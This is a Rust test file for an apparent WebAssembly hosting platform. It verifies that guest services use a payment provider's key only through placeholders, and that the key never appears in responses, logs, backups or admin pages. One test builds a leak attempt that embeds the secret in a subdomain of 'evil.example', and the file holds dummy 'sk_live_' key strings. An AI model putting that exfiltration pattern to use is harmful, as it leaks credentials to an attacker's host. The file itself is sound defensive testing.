//! Secrets that a guest uses without seeing them. Remote hosts are servers of this test on loopback.

use std::os::unix::fs::PermissionsExt as _;
use std::path::{Path, PathBuf};

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use comptoir::host::{Caches, dry_run};
use reqwest::Method;
use tempfile::TempDir;
use testing::built::compiled;
use testing::process::Process;
use testing::{Shop, component, manifest_of, send, try_manifest_of};

use super::remote::{Certificate, Remote};
use super::{fetch, order};

const KEY: &str = "sk_live_51H8QyT0p4Zr";
const NEXT_KEY: &str = "sk_live_9XcVbNm3LkJh";

/// Nothing is compiled here.
fn caches() -> Caches {
    Caches { own: compiled(), other: None }
}

/// A folder with the key of the payment provider.
fn key_folder() -> (TempDir, PathBuf) {
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("payment.key");
    put(&file, KEY);
    (folder, file)
}

/// Replaces a key atomically, with mode 600.
fn put(file: &Path, key: &str) {
    let new = file.with_extension("new");
    std::fs::write(&new, format!("{key}\n")).unwrap();
    std::fs::set_permissions(&new, std::fs::Permissions::from_mode(0o600)).unwrap();
    std::fs::rename(new, file).unwrap();
}

/// The services of operating.md, for a provider on loopback. One guest is for WASI 0.2, and one for 0.3.
fn services(provider: &Remote, other: &Remote, authority: &Path, key: &Path) -> String {
    let service = |name: &str, mount: &str| {
        format!(
            r#"
[services.{name}]
component = {file:?}
mounts = ["/{mount}"]
public = ["/{mount}"]
access = "public"
[services.{name}.config]
currency = "EUR"
[services.{name}.secrets]
payment-key = {{ file = {key:?}, to = ["{to}"], in = ["authorization"] }}
[services.{name}.outbound]
allow = ["{to}", "{other}"]
private = ["127.0.0.1/32"]
authority = {authority:?}
"#,
            file = component(&format!("guest_fetch_{name}")),
            to = provider.origin(),
            other = other.origin(),
        )
    };
    service("p2", "fetch") + &service("p3", "p3")
}

struct Payments {
    shop: Shop,
    provider: Remote,
    other: Remote,
    key: PathBuf,
    _folder: TempDir,
}

impl Payments {
    async fn open() -> Self {
        let certificate = Certificate::new("127.0.0.1");
        let (provider, other) = (Remote::with_tls(&certificate).await, Remote::start().await);
        let (folder, key) = key_folder();
        let shop = Shop::with(manifest_of(&services(&provider, &other, &certificate.file(), &key))).await;
        Self { shop, provider, other, key, _folder: folder }
    }

    /// The placeholder that a guest sees.
    async fn placeholder(&self, path: &str) -> String {
        let environment = fetch(&self.shop, path, "ENVIRONMENT").await;
        let line = environment.lines().find_map(|line| line.strip_prefix("PAYMENT_KEY="));
        line.unwrap_or_else(|| panic!("no key: {environment}")).to_owned()
    }
}

const CHARGE: &str =
    "/v1/charges\nauthorization: Bearer $PAYMENT_KEY\nx-copy: $PAYMENT_KEY\n\namount=1000&copy=$PAYMENT_KEY";

#[tokio::test(flavor = "multi_thread")]
async fn a_service_charges_a_payment_provider_without_seeing_its_key() {
    let payments = Payments::open().await;
    for path in ["/fetch", "/p3"] {
        let placeholder = payments.placeholder(path).await;
        assert!(placeholder.starts_with("placeholder-payment-key-"), "{placeholder}");
        let text = fetch(&payments.shop, path, &order("POST", &payments.provider, CHARGE)).await;
        assert!(text.starts_with("200\n"), "{text}");
        let arrived = payments.provider.last();
        assert_eq!(arrived.headers["authorization"], format!("Bearer {KEY}"));
        assert_eq!(arrived.headers["x-copy"], placeholder, "another header");
        assert!(text.ends_with(&format!("amount=1000&copy={placeholder}")), "the body: {text}");
        assert!(!text.contains(KEY), "{text}");
    }
}

/// The manifest that operating.md shows, with the files and the port of this test.
#[tokio::test(flavor = "multi_thread")]
async fn the_example_of_operating_md_charges_a_provider_without_seeing_its_key() {
    let certificate = Certificate::new("127.0.0.1");
    let provider = Remote::with_tls(&certificate).await;
    let (_folder, key) = key_folder();
    let document = std::fs::read_to_string(testing::built::host_folder().join("docs/operating.md")).unwrap();
    let example = document.lines().skip_while(|line| line.trim() != "[services.payments]");
    let example: Vec<_> = example.take_while(|line| line.is_empty() || line.starts_with("    ")).collect();
    let mut manifest = example.join("\n");
    for (shown, own) in [
        ("payments.wasm", component("guest_fetch_p3").display().to_string()),
        ("payment.key", key.display().to_string()),
        ("authority.pem", certificate.file().display().to_string()),
        ("https://127.0.0.1:8443", provider.origin()),
    ] {
        assert!(manifest.contains(shown), "no {shown}: {manifest}");
        manifest = manifest.replace(shown, &own);
    }
    let shop = Shop::with(manifest_of(&manifest)).await;
    let text = fetch(&shop, "/payments", &order("POST", &provider, CHARGE)).await;
    assert_eq!(provider.last().headers["authorization"], format!("Bearer {KEY}"));
    assert!(text.starts_with("200\n") && !text.contains(KEY), "{text}");
    let environment = fetch(&shop, "/payments", "ENVIRONMENT").await;
    assert!(environment.contains("PAYMENT_KEY=placeholder-") && !environment.contains(KEY), "{environment}");
}

#[tokio::test(flavor = "multi_thread")]
async fn another_host_gets_the_placeholder() {
    let payments = Payments::open().await;
    for path in ["/fetch", "/p3"] {
        let placeholder = payments.placeholder(path).await;
        let text = fetch(&payments.shop, path, &order("POST", &payments.other, CHARGE)).await;
        assert!(text.starts_with("200\n"), "{text}");
        assert_eq!(payments.other.last().headers["authorization"], format!("Bearer {placeholder}"));
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_provider_that_repeats_the_key_is_masked() {
    let payments = Payments::open().await;
    for path in ["/fetch", "/p3"] {
        for (scheme, credential) in [("Bearer", "$PAYMENT_KEY"), ("Basic", "$BASIC_PAYMENT_KEY")] {
            // The server splits its answer within the key.
            let request =
                format!("/repeat\nauthorization: {scheme} {credential}\naccept-encoding: gzip\nrange: bytes=0-3");
            let text = fetch(&payments.shop, path, &order("GET", &payments.provider, &request)).await;
            let arrived = payments.provider.last().headers;
            let sent = arrived["authorization"].to_str().unwrap().to_owned();
            let basic = STANDARD.encode(format!("{KEY}:"));
            assert_eq!(sent, if scheme == "Basic" { format!("Basic {basic}") } else { format!("Bearer {KEY}") });
            assert_eq!((arrived["accept-encoding"].as_bytes(), arrived.get("range")), (&b"identity"[..], None));
            let stars = "*".repeat(sent.len() - scheme.len() - 1);
            assert!(text.contains(&format!("x-repeated: {scheme} {stars}")), "the header: {text}");
            assert!(text.ends_with(&format!("you sent {scheme} {stars}.")), "the body: {text}");
            assert!(!text.contains(KEY) && !text.contains(&basic), "{text}");
        }
    }
    let coded = fetch(&payments.shop, "/fetch", &order("GET", &payments.provider, "/gzip")).await;
    assert_eq!(coded, "ErrorCode::HttpResponseContentCoding(None)");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_replaced_key_is_used_at_once() {
    let payments = Payments::open().await;
    let charge = order("POST", &payments.provider, CHARGE);
    fetch(&payments.shop, "/fetch", &charge).await;
    put(&payments.key, NEXT_KEY);
    fetch(&payments.shop, "/fetch", &charge).await;
    assert_eq!(payments.provider.last().headers["authorization"], format!("Bearer {NEXT_KEY}"));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_reload_changes_keys_and_remote_hosts() {
    let certificate = Certificate::new("127.0.0.1");
    let (provider, other) = (Remote::with_tls(&certificate).await, Remote::start().await);
    let (folder, key) = key_folder();
    let of = |key: &Path, provider: &Remote| manifest_of(&services(provider, &other, &certificate.file(), key));
    let mut shop = Shop::with(of(&key, &provider)).await;
    let charge = async |shop: &Shop, path: &str, provider: &Remote| {
        let text = fetch(shop, path, &order("POST", provider, CHARGE)).await;
        text.lines().next().unwrap().to_owned()
    };
    let authorization = |provider: &Remote| provider.last().headers["authorization"].to_str().unwrap().to_owned();
    let (next_key, next) = (folder.path().join("next.key"), Remote::with_tls(&certificate).await);
    put(&next_key, NEXT_KEY);
    for path in ["/fetch", "/p3"] {
        assert_eq!(charge(&shop, path, &provider).await, "200");
        assert_eq!(authorization(&provider), format!("Bearer {KEY}"));
        assert_eq!(charge(&shop, path, &next).await, "ErrorCode::HttpRequestDenied");
    }
    let reloaded = shop.reload(of(&next_key, &provider)).await;
    assert_eq!(reloaded.succeeds(200)["changed"]["p2"], serde_json::json!(["secrets"]));
    for path in ["/fetch", "/p3"] {
        assert_eq!(charge(&shop, path, &provider).await, "200");
        assert_eq!(authorization(&provider), format!("Bearer {NEXT_KEY}"));
    }
    let reloaded = shop.reload(of(&key, &next)).await;
    assert_eq!(reloaded.succeeds(200)["changed"]["p3"], serde_json::json!(["outbound", "secrets"]));
    for path in ["/fetch", "/p3"] {
        assert_eq!(charge(&shop, path, &next).await, "200");
        assert_eq!(authorization(&next), format!("Bearer {KEY}"));
        assert_eq!(charge(&shop, path, &provider).await, "ErrorCode::HttpRequestDenied");
    }
    // A key that others can read changes nothing.
    std::fs::set_permissions(&next_key, std::fs::Permissions::from_mode(0o644)).unwrap();
    let refused = shop.reload(of(&next_key, &provider)).await;
    refused.refuses(422, "MANIFEST_REFUSED");
    assert!(refused.text.contains("services.p2.secrets.payment-key: ") && !refused.text.contains(NEXT_KEY));
    assert_eq!(charge(&shop, "/fetch", &next).await, "200");
}

#[tokio::test(flavor = "multi_thread")]
async fn each_revision_gets_another_placeholder() {
    let payments = Payments::open().await;
    let first = payments.placeholder("/fetch").await;
    assert_eq!(payments.placeholder("/fetch").await, first);
    let bytes = [&std::fs::read(component("guest_fetch_p2")).unwrap()[..], &[0, 2, 1, b'x']].concat();
    send(payments.shop.operator().request(Method::PUT, "/services/p2").body(bytes)).await.succeeds(200);
    assert_ne!(payments.placeholder("/fetch").await, first);
    fetch(&payments.shop, "/fetch", &order("POST", &payments.provider, CHARGE)).await;
    assert_eq!(payments.provider.last().headers["authorization"], format!("Bearer {KEY}"));
}

#[tokio::test(flavor = "multi_thread")]
async fn an_exposed_secret_is_in_the_configuration_and_follows_its_file() {
    let (_folder, key) = key_folder();
    let manifest = format!(
        "[services.p2]\ncomponent = \"guest_fetch_p2.wasm\"\nmounts = [\"/fetch\"]\npublic = [\"/fetch\"]\n\
         [services.p2.secrets]\npayment-key = {{ file = {key:?}, expose = true }}\n"
    );
    let shop = Shop::with(manifest_of(&manifest)).await;
    assert!(fetch(&shop, "/fetch", "ENVIRONMENT").await.contains(&format!("PAYMENT_KEY={KEY}")));
    put(&key, NEXT_KEY);
    assert!(fetch(&shop, "/fetch", "ENVIRONMENT").await.contains(&format!("PAYMENT_KEY={NEXT_KEY}")));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_host_does_not_start_with_a_secret_that_others_can_read() {
    let (folder, key) = key_folder();
    std::fs::set_permissions(&key, std::fs::Permissions::from_mode(0o644)).unwrap();
    let manifest = try_manifest_of(&format!(
        "[services.p2]\ncomponent = \"guest_fetch_p2.wasm\"\nmounts = [\"/fetch\"]\n[services.p2.secrets]\n\
         payment-key = {{ file = {key:?}, expose = true }}\n"
    ))
    .unwrap();
    let refused = dry_run(&manifest, None, caches()).await.err().expect("it is refused").to_string();
    assert!(
        refused.contains("services.p2.secrets.payment-key: ") && refused.contains("set the mode to 600"),
        "{refused}"
    );
    assert!(!refused.contains(KEY) && folder.path().exists(), "{refused}");
}

#[tokio::test(flavor = "multi_thread")]
async fn no_component_may_read_the_folder_of_a_secret() {
    let (folder, key) = key_folder();
    let manifest = manifest_of(&format!(
        "[services.p2]\ncomponent = \"guest_fetch_p2.wasm\"\nmounts = [\"/fetch\"]\nfiles = [{{ from = {:?}, to = \"/\" }}]\n\
         [services.p2.secrets]\npayment-key = {{ file = {key:?}, expose = true }}\n",
        folder.path()
    ));
    let refused = dry_run(&manifest, None, caches()).await.err().expect("it is refused").to_string();
    assert!(refused.contains("shares files with a secret of a service"), "{refused}");
}

/// All files below a folder that contain these bytes.
fn holders(folder: &Path, needle: &str) -> Vec<PathBuf> {
    let mut found = Vec::new();
    for entry in std::fs::read_dir(folder).unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() {
            found.extend(holders(&path, needle));
        } else if std::fs::read(&path)
            .is_ok_and(|bytes| bytes.windows(needle.len()).any(|part| part == needle.as_bytes()))
        {
            found.push(path);
        }
    }
    found
}

#[tokio::test(flavor = "multi_thread")]
async fn the_key_is_in_no_log_at_any_level_no_backup_and_no_page() {
    let certificate = Certificate::new("127.0.0.1");
    let (provider, other) = (Remote::with_tls(&certificate).await, Remote::start().await);
    let (folder, key) = key_folder();
    let exposing = format!(
        "[services.open]\ncomponent = {:?}\nmounts = [\"/open\"]\naccess = \"public\"\n[services.open.secrets]\n\
         payment-key = {{ file = {key:?}, expose = true }}\n",
        component("guest_fetch_p3")
    );
    let services = services(&provider, &other, &certificate.file(), &key) + &exposing;
    let process = Process::serve_with_log(folder.path(), &services, "trace").await;
    let client = testing::Client::new(&format!("http://{}", process.gateway));
    let charge = order("POST", &provider, CHARGE);
    let leak = format!("GET https {KEY}.evil.example /");
    let repeat = order("GET", &provider, "/repeat\nauthorization: Bearer $PAYMENT_KEY");
    let print = "PRINT".to_owned();
    let orders = [
        ("/fetch", &charge),
        ("/p3", &charge),
        ("/fetch", &repeat),
        ("/open", &leak),
        ("/fetch", &print),
        ("/open", &print),
    ];
    for (path, order) in orders {
        let request = client.request(Method::POST, path).header("content-type", "text/plain").body(order.clone());
        assert_eq!(send(request).await.status, 200, "{path} {order}");
    }
    assert_eq!(provider.last().headers["authorization"], format!("Bearer {KEY}"));
    let operator = process.operator();
    let mut pages = String::new();
    for page in ["/metrics", "/readyz", "/services", "/services/p2", "/services/p2/history", "/version"] {
        pages += &operator.get(page).await.text;
    }
    assert!(pages.contains(&provider.origin()), "the metrics name the provider");
    let backups = folder.path().join("backups");
    std::fs::create_dir(&backups).unwrap();
    comptoir::backup::create(&folder.path().join("data"), &backups).unwrap();
    let log = process.said();
    assert!(log.contains("TRACE") && log.contains("the key is"), "the log has everything: {} bytes", log.len());
    process.kill().await;
    assert!(!pages.contains(KEY), "{pages}");
    let line = log.lines().find(|line| line.to_lowercase().contains(&KEY.to_lowercase()));
    assert_eq!(line, None);
    assert_eq!(holders(folder.path(), KEY), [key]);
}
